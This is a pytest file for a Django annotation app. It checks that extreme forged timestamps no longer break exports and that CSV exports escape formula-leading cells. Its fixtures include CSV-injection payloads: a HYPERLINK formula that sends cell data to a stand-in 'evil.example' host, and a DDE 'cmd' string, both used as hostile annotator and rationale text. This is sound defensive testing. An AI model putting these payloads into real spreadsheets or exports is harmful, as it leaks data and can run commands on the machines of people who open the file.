"""No stored row breaks an export, and no exported cell runs in a spreadsheet.

A forged hidden `client_submitted_at` (`0001-01-01T00:00:00+14:00`, `9999-12-31T23:59:59-14:00`)
used to be stored as given; reading it back overflowed Django's conversion and took down
`export_judgments`, the console download, the analysis frame and `analyze` for the whole
study. Rationales and ids such as `=HYPERLINK(...)` were exported verbatim into CSV.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command
from django.db import connection

from analysis.models import ImportedJudgment
from analysis.selectors import judgments_frame
from annotation.assignment import request_work
from annotation.export import LONG_COLUMNS, long_rows, write_rows
from annotation.models import Judgment, Study
from annotation.services import get_or_create_participant, next_entry, record_judgment
from core.csv_cells import escape_formula, unescape_formula
from generation.models import Context
from tests.factories import make_study

pytestmark = pytest.mark.django_db
EXAMPLES = Path(settings.BASE_DIR) / "examples"

FAR_PAST = dt.datetime(1, 1, 1, tzinfo=dt.timezone(dt.timedelta(hours=14)))
FAR_FUTURE = dt.datetime(9999, 12, 31, 23, 59, 59, tzinfo=dt.timezone(dt.timedelta(hours=-14)))
# what SQLite would hold for them: naive UTC text, a year before 1 / after 9999
SQLITE_TEXT = {FAR_PAST: "0000-12-31 10:00:00", FAR_FUTURE: "10000-01-01 13:59:59"}


def run(*args) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    call_command(*args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def store_client_time(judgment: Judgment, when: dt.datetime) -> None:
    """Store `when` as the judgment's client time the way it reached the database:
    PostgreSQL took the aware value as given (the stored UTC time is before year 1 or after
    9999); on SQLite Django's own write overflows, so the text goes in by SQL."""
    if connection.vendor == "postgresql":
        Judgment.objects.filter(pk=judgment.pk).update(client_submitted_at=when)
    else:
        with connection.cursor() as cursor:
            cursor.execute(
                "UPDATE annotation_judgment SET client_submitted_at = %s WHERE id = %s",
                [SQLITE_TEXT[when], judgment.pk],
            )


def judge_demo(participants: int = 3) -> Study:
    call_command("create_study", str(EXAMPLES / "demo_rating.yaml"), stdout=io.StringIO())
    study = Study.objects.get()
    for i in range(participants):
        p = get_or_create_participant(study, f"P{i}", "prolific")
        assignment = request_work(p).assignment
        while (entry := next_entry(assignment)) is not None:
            values = {
                d["key"]: ((17 * i + 7 * entry.position) % 101 if d["type"] == "slider" else True)
                for d in study.dimensions
            }
            record_judgment(
                p,
                entry_id=entry.id,
                values=values,
                rationales={},
                idempotency_key=f"{i}-{entry.id}",
                client_submitted_at=dt.datetime(2024, 5, 1, 12, 0, 0, 500000, tzinfo=dt.UTC),
            )
    return study


# ------------------------------------------------------------------ far client times


def test_far_client_times_do_not_break_any_reader(tmp_path, admin_client):
    study = judge_demo()
    past, future = Judgment.objects.filter(study=study).order_by("id")[:2]
    store_client_time(past, FAR_PAST)
    store_client_time(future, FAR_FUTURE)
    odd = {past.pk, future.pk}

    out = tmp_path / "j.csv"
    text, note = run("export_judgments", study.name, "--out", str(out))
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert f"wrote {len(rows)} rows" in text and rows
    assert "2 judgment(s) have a client_submitted_at that is not a readable time" in note
    for row in rows:
        if int(row["judgment_id"]) in odd:
            assert row["client_submitted_at"] == "" and row["client_submitted_at_unreadable"]
        else:  # a readable time is written as before: ISO 8601 in UTC
            assert row["client_submitted_at"] == "2024-05-01T12:00:00.500000+00:00"
            assert row["client_submitted_at_unreadable"] == ""
    stored = {int(r["judgment_id"]): r["client_submitted_at_unreadable"] for r in rows}
    if connection.vendor == "postgresql":
        assert stored[past.pk].endswith(" BC") and stored[future.pk].startswith("10000-")
    else:
        assert stored[past.pk] == SQLITE_TEXT[FAR_PAST]

    jsonl = tmp_path / "j.jsonl"
    run("export_judgments", study.name, "--out", str(jsonl))
    records = [json.loads(line) for line in jsonl.read_text(encoding="utf-8").splitlines()]
    assert len(records) == len(rows)
    assert {r["client_submitted_at"] for r in records if r["judgment_id"] in odd} == {""}

    response = admin_client.get(f"/console/{study.name}/judgments.csv")
    assert response.status_code == 200
    downloaded = list(csv.DictReader(io.StringIO(_body(response))))
    assert [r["judgment_id"] for r in downloaded] == [r["judgment_id"] for r in rows]

    assert len(judgments_frame(study)) == len(rows)
    bundle = tmp_path / "bundle"
    run(
        "analyze",
        study.name,
        "--out",
        str(bundle),
        "--permutations",
        "50",
        "--bootstrap",
        "50",
        "--no-plots",
    )
    assert (bundle / "report.md").is_file()
    assert admin_client.get(f"/console/{study.name}/").status_code == 200


# ------------------------------------------------------------------ formula cells


def test_escape_rule_leaves_numbers_and_round_trips():
    for risky in ('=HYPERLINK("http://x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert escape_formula(risky) == "'" + risky
    for plain in ("-0.5", "+3", "-1e-3", "hello", "", "a=b", "'quoted"):
        assert escape_formula(plain) == plain
    for text in ("=x", "'=x", "''=x", "'", "''", "-0.5", "-x", "'-0.5", "plain"):
        assert unescape_formula(escape_formula(text)) == text
    # numbers stay numbers in the file; only text cells are escaped
    dims = [{"key": "score", "type": "slider"}]
    record = {
        "system": "=sys",
        "system_a": "",
        "system_b": "",
        "values": {"score": -0.5},
        "rationales": {"score": "=1+1"},
    }
    out = io.StringIO()
    write_rows(long_rows([record], dims), out, "csv")
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert (row["value"], row["system"], row["rationale"]) == ("-0.5", "'=sys", "'=1+1")


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _pairwise_with_hostile_text() -> Study:
    """A pairwise study whose annotators, contexts and rationales start with formula
    prefixes (and one with an apostrophe already)."""
    study = make_study(protocol="pairwise", n_batches=2, slots=1, batch_length=2)
    names = ["-ctx", "@ctx", "'=ctx", "+ctx"]
    for context, name in zip(Context.objects.order_by("id"), names, strict=True):
        context.external_id = name
        context.save()
    for n, annotator in enumerate(["=cmd|' /C calc'!A0", "+PROLIFIC"]):
        p = get_or_create_participant(study, annotator, "prolific")
        assignment = request_work(p).assignment
        while (entry := next_entry(assignment)) is not None:
            record_judgment(
                p,
                entry_id=entry.id,
                values={"overall": "a"},
                rationales={"overall": HOSTILE},
                idempotency_key=f"{n}-{entry.id}",
            )
    return study


def test_csv_exports_escape_formula_cells_unless_told_not_to(tmp_path, admin_client):
    study = _pairwise_with_hostile_text()
    escaped = tmp_path / "escaped.csv"
    run("export_judgments", study.name, "--out", str(escaped), "--real-ids")
    rows = list(csv.DictReader(escaped.open(encoding="utf-8")))
    assert rows and {r["rationale"] for r in rows} == {"'" + HOSTILE}
    assert {r["annotator"] for r in rows} == {"'=cmd|' /C calc'!A0", "'+PROLIFIC"}
    assert {r["context"] for r in rows} == {"'-ctx", "'@ctx", "''=ctx", "'+ctx"}
    assert list(rows[0]) == LONG_COLUMNS

    raw = tmp_path / "raw.csv"
    run("export_judgments", study.name, "--out", str(raw), "--real-ids", "--no-formula-escape")
    assert {r["rationale"] for r in csv.DictReader(raw.open(encoding="utf-8"))} == {HOSTILE}

    jsonl = tmp_path / "rows.jsonl"
    run("export_judgments", study.name, "--out", str(jsonl), "--real-ids")
    records = [json.loads(line) for line in jsonl.read_text(encoding="utf-8").splitlines()]
    assert {r["rationale"] for r in records} == {HOSTILE}
    assert {r["context"] for r in records} == {"-ctx", "@ctx", "'=ctx", "+ctx"}

    url = f"/console/{study.name}/judgments.csv"
    default = _body(admin_client.get(url))
    assert {r["rationale"] for r in csv.DictReader(io.StringIO(default))} == {"'" + HOSTILE}
    verbatim = _body(admin_client.get(url + "?formula_escape=0"))
    assert {r["rationale"] for r in csv.DictReader(io.StringIO(verbatim))} == {HOSTILE}


def test_an_escaped_export_reimports_to_the_original_text(tmp_path):
    study = _pairwise_with_hostile_text()
    originals = set(Judgment.objects.values_list("participant__external_id", flat=True))
    path = tmp_path / "export.csv"
    run("export_judgments", study.name, "--out", str(path), "--real-ids")
    assert "'=cmd" in path.read_text(encoding="utf-8")  # escaped in the file
    out, _ = run("import_judgments", str(path), "--study", "again", "--protocol", "pairwise")
    assert "read as an evalsite export" in out
    imported = ImportedJudgment.objects.filter(study__name="again")
    assert set(imported.values_list("annotator", flat=True)) == originals
    assert set(imported.values_list("context", flat=True)) == {"-ctx", "@ctx", "'=ctx", "+ctx"}
    assert imported.count() == Judgment.objects.count()


def _body(response) -> str:
    """A download's text; the console streams it."""
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()
